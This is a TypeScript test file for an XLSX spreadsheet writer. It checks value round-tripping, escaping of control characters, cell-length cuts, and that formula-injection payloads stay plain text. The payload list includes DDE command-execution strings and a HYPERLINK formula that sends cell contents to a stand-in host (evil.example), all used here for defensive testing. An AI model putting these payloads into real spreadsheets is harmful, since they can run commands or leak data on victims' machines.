import fc from "fast-check";
import * as SheetJs from "xlsx";
import type { LaidOutPack, LaidOutSheet } from "../../../src/pack/LaidOutPack";
import { readXlsx } from "../../../src/host/xlsx/readWorkbook";
import { fileFormula } from "../../../src/host/xlsx/write/formulas";
import { renderXlsx } from "../../../src/host/xlsx/writeWorkbook";
import { checkPackage } from "./checkPackage";
import { Collected } from "./handMade";
import { takeApart } from "./packageParts";

function packOf(values: readonly (string | number | boolean | null)[], more: Partial<LaidOutSheet> = {}): LaidOutPack {
  const sheet: LaidOutSheet = {
    name: "S",
    pageId: "s",
    columnWidths: [20],
    rowHeights: new Map(),
    cells: values.map((value, i) => ({ row: i + 1, column: 1, value, style: 0 })),
    merges: [],
    tables: [],
    conditionalFormats: [],
    sparklines: [],
    charts: [],
    validations: [],
    gridlines: true,
    typed: [],
    ...more,
  };
  const words = { title: "t", subject: "", author: "", company: "", keywords: "", description: "" };
  return { sheets: [sheet], styles: [{}], names: [], properties: { ...words, created: "2026-01-01T00:00:00Z" } };
}

/** The column as two programs read it: ours and SheetJS. */
async function readBack(values: readonly string[]): Promise<{ ours: unknown[]; theirs: unknown[] }> {
  const bytes = await renderXlsx(packOf(values));
  const sink = new Collected();
  await readXlsx(bytes, sink);
  const sheet = SheetJs.read(bytes, { cellFormula: true }).Sheets["S"];
  const rows = sink.tables[0]?.rows;
  const cells = values.map((_, i) => sheet?.[`A${i + 1}`] as SheetJs.CellObject | undefined);
  for (const cell of cells) expect(cell?.f).toBeUndefined();
  return { ours: values.map((_, i) => rows?.get(i + 1)?.[0]), theirs: cells.map((cell) => cell?.v) };
}

/** OWASP's payloads for CSV and formula injection, and their full-width relatives. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "=1+1",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "+1+1",
  "-1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1",
  "'=1+1",
  '"=1+1',
  ";=1+1",
  '=IMPORTXML(CONCAT(""))',
  "<script>alert(1)</script>",
  "]]><v>9</v>",
];

test("formula payloads are text in every reader, and stay text when someone edits the cell", async () => {
  const { ours, theirs } = await readBack(PAYLOADS);
  expect(ours).toEqual(PAYLOADS);
  expect(theirs).toEqual(PAYLOADS);
  const parts = await takeApart(await renderXlsx(packOf(PAYLOADS)));
  const sheet = parts.texts.get("xl/worksheets/sheet1.xml") ?? "";
  expect(sheet).not.toContain("<f>");
  // the twin style with quotePrefix: all that begin like a formula, and no other
  const prefixed = PAYLOADS.filter((text) => /^['=+\-@\t\r\n＝＋]/.test(text)).length;
  expect(parts.texts.get("xl/styles.xml")).toContain('quotePrefix="1"');
  expect(sheet.match(/ s="2" t="s"/g)).toHaveLength(prefixed);
});

test("characters that XML cannot hold come back, halves of characters become U+FFFD", async () => {
  const hostile = [
    "\u0000nul",
    "bell\u0007",
    "esc\u001b[31m",
    "a\u000bb\u000cc",
    "\uFFFE\uFFFF",
    "\u007f",
    "crlf\r\nend",
    "tab\tnl\n",
  ];
  const { ours } = await readBack(hostile);
  expect(ours).toEqual(hostile);
  const escapes = ["_x000D_", "_x0041_ _x005F_", "_x00e4_ x_x0041", "__x0041__"];
  const both = await readBack(escapes);
  expect(both.ours).toEqual(escapes);
  expect(both.theirs).toEqual(escapes);
  expect((await readBack(["\ud83d alone", "and \ude00", "whole 😀"])).ours).toEqual([
    "\ufffd alone",
    "and \ufffd",
    "whole 😀",
  ]);
  expect(await checkPackage(await renderXlsx(packOf([...hostile, ...escapes, "\ud83d"])))).toEqual([]);
});

test("any text goes in and comes out", async () => {
  const texts = fc.array(fc.oneof(fc.string(), fc.string({ unit: "binary" }), fc.string({ unit: "grapheme" })), {
    minLength: 1,
    maxLength: 20,
  });
  await fc.assert(
    fc.asyncProperty(texts, async (values) => {
      const filled = values.map((value) => `${value}.`);
      const bytes = await renderXlsx(packOf(filled));
      const sink = new Collected();
      await readXlsx(bytes, sink);
      const lone = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g;
      expect(filled.map((_, i) => sink.tables[0]?.rows.get(i + 1)?.[0])).toEqual(
        filled.map((v) => v.replace(lone, "\ufffd")),
      );
      expect((await takeApart(bytes)).malformed).toEqual([]);
    }),
    { numRuns: 60 },
  );
});

test("any number goes in and comes out of both readers", async () => {
  const numbers = fc.array(fc.double({ noNaN: true, noDefaultInfinity: true }), { minLength: 1, maxLength: 50 });
  await fc.assert(
    fc.asyncProperty(numbers, async (raw) => {
      const values = raw.map((x) => x + 0 || 0); // a file has no -0
      const bytes = await renderXlsx(packOf(values));
      const sink = new Collected();
      await readXlsx(bytes, sink);
      const sheet = SheetJs.read(bytes).Sheets["S"];
      values.forEach((value, i) => {
        expect(sink.tables[0]?.rows.get(i + 1)?.[0]).toBe(value);
        expect((sheet?.[`A${i + 1}`] as SheetJs.CellObject).v).toBe(value);
      });
    }),
    { numRuns: 40 },
  );
});

test("text beyond Excel's 32,767 characters is cut, says so, and cuts no character in two", async () => {
  const { ours, theirs } = await readBack(["x".repeat(32_767), "y".repeat(40_000), "😀".repeat(20_000)]);
  expect(ours[0]).toBe("x".repeat(32_767));
  for (const cut of [ours[1], ours[2]] as string[]) {
    expect(cut.length).toBeLessThanOrEqual(32_767);
    expect(cut.length).toBeGreaterThan(32_700);
    expect(cut).toMatch(/(y|😀)… \[cut here: an Excel cell holds 32,767 characters\]$/u);
  }
  expect(theirs).toEqual(ours);
});

test("hostile words in every other place of a sheet leave a faultless package", async () => {
  const hostile = "<&\"'>\u0000\ud83d]]>\r\n_x0041_";
  const cells = [
    {
      row: 1,
      column: 1,
      value: hostile,
      style: 0,
      note: hostile,
      link: { target: `https://x.example/${hostile}`, tip: hostile },
    },
    { row: 1, column: 2, value: "Second\nline", style: 0 },
    { row: 2, column: 1, value: 1, style: 0, formula: '"<&"&A1' },
    { row: 2, column: 2, value: 2, style: 0 },
  ];
  const chart = {
    row: 4,
    column: 1,
    rows: 5,
    columns: 2,
    id: hostile,
    kind: "line" as const,
    title: hostile,
    subtitle: hostile,
    series: [{ name: hostile, values: "S!$A$2:$B$2", cache: [1, 2], labelAt: { index: 1, text: hostile } }],
    categoryCache: [hostile, "b"],
    timeAxis: false,
    valueFormat: '0"<"',
    categoryFormat: "General",
    xTitle: hostile,
    altText: hostile,
  };
  const sheet: Partial<LaidOutSheet> = {
    name: "A&B <'x'> y",
    cells,
    charts: [chart],
    tables: [
      {
        row: 1,
        column: 1,
        rows: 2,
        columns: 2,
        name: "T",
        headers: ["<&\"'>\u0000\ud83d]]>\r\n_x0041_", "Second\nline"],
        filter: true,
        banded: false,
      },
    ],
    conditionalFormats: [
      { box: { row: 1, column: 1, rows: 1, columns: 1 }, formula: '$A$1="<&"', style: { bold: true } },
    ],
    validations: [
      { box: { row: 9, column: 1, rows: 1, columns: 1 }, list: ["<a>", '"b"'], message: hostile.repeat(40) },
    ],
    print: {
      orientation: "portrait",
      area: { row: 1, column: 1, rows: 9, columns: 2 },
      fit: { width: 1, height: 0 },
      breaks: [],
      header: hostile,
      footer: "&L".repeat(300),
      margins: { top: 1, bottom: 1, left: 1, right: 1, header: 0, footer: 0 },
    },
  };
  const base = packOf([], sheet);
  const properties = { ...base.properties, title: hostile, description: hostile };
  const bytes = await renderXlsx({ ...base, properties });
  const faults = await checkPackage(bytes);
  // the check compares a column's name with its header letter by letter, and does not know Excel's escapes
  expect(faults.filter((fault) => !fault.includes("is not its header cell's text"))).toEqual([]);
  expect(SheetJs.read(bytes).SheetNames).toEqual(["A&B <'x'> y"]);
});

test("young functions get the prefix of the file format; texts, sheet names and old functions do not", () => {
  expect(fileFormula('IFS(A1>0,"MAXIFS(",TRUE,ifna(SUM(B1),0))')).toBe(
    '_xlfn.IFS(A1>0,"MAXIFS(",TRUE,_xlfn.IFNA(SUM(B1),0))',
  );
  expect(fileFormula("SUM('XLOOKUP(1)'!A1)+FILTER(A1:A3,B1:B3)")).toBe(
    "SUM('XLOOKUP(1)'!A1)+_xlfn._xlws.FILTER(A1:A3,B1:B3)",
  );
  expect(fileFormula("_xlfn.IFS(A1)+NORM.S.DIST(A1,TRUE)")).toBe("_xlfn.IFS(A1)+_xlfn.NORM.S.DIST(A1,TRUE)");
});
